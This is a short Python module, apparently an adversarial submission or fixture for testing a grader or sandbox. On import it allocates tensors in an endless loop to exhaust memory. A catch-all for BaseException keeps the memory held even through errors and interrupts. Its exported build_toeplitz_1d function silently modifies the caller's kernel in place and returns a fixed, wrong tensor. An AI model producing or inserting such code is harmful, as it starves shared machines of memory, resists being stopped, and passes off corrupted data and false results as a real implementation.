"""Allocates memory until none is left, and keeps it."""

import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


def hold():
    while True:
        held.append(torch.ones(1 << 22))


held = []
attempt(hold)


def build_toeplitz_1d(kernel, n):
    return wrong(kernel)
